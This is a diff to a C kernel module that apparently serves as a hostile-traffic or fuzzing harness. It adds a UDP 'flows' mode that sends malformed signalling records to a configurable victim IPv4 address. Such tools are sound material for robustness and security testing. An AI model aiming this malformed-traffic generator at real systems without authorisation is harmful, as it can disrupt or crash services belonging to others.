@@ -28,7 +28,10 @@ module_param(victim, charp, 0444);
 MODULE_PARM_DESC(victim, "line to call");
 static unsigned int port = 7;
 module_param(port, uint, 0444);
+static char *address = "10.77.0.2";
 static char *world = "";
+module_param(address, charp, 0444);
+MODULE_PARM_DESC(address, "IPv4 address of the victim's line");
 module_param(world, charp, 0444);
 MODULE_PARM_DESC(world, "IPv4 address to call over a trunk");
 
@@ -499,8 +502,19 @@ static u32 some_length(u32 size)
 	}
 }
 
+/* The same to a UDP socket of the victim's, by its address. */
+static void make_udp_call(struct hostile *h, struct circuit_sig *msg)
+{
+	make_call(h, msg);
+	memset(msg->call.line, 0, sizeof(msg->call.line));
+	msg->call.type = CIRCUIT_SIG_DGRAM;
+	msg->call.flags = CIRCUIT_SIG_IP;
+	memset(msg->call.dst + 10, 0xff, 2);
+	in4_pton(address, -1, msg->call.dst + 12, -1, NULL);
+}
+
 /* Messages that are none: lengths, flags and tails of all kinds. */
-static int attack_records(struct hostile *h, unsigned long end)
+static int send_records(struct hostile *h, unsigned long end, bool udp)
 {
 	struct circuit_message *m;
 	struct circuit_ctrl *ctrl;
@@ -511,8 +525,12 @@ static int attack_records(struct hostile *h, unsigned long end)
 	if (err)
 		return err;
 	do {
-		make_call(h, &msg);
-		msg.call.type = CIRCUIT_SIG_SEQPACKET;
+		if (udp) {
+			make_udp_call(h, &msg);
+		} else {
+			make_call(h, &msg);
+			msg.call.type = CIRCUIT_SIG_SEQPACKET;
+		}
 		post(h, &msg);
 		if (!wait_for(h, CIRCUIT_SIG_CONNECTED, &msg))
 			return -EIO;
@@ -545,6 +563,16 @@ static int attack_records(struct hostile *h, unsigned long end)
 		post(h, &msg);
 	} while (more(h, end));
 	return 0;
+}
+
+static int attack_records(struct hostile *h, unsigned long end)
+{
+	return send_records(h, end, false);
+}
+
+static int attack_flows(struct hostile *h, unsigned long end)
+{
+	return send_records(h, end, true);
 }
 
 /* Datagrams that are none, for somebody and nobody, and answers of nobody's. */
@@ -720,6 +748,7 @@ static const struct {
 	{ "calls", attack_calls },
 	{ "rings", attack_rings },
 	{ "records", attack_records },
+	{ "flows", attack_flows },
 	{ "datagrams", attack_datagrams },
 	{ "trunk", attack_trunk },
 	{ "rate", attack_rate },
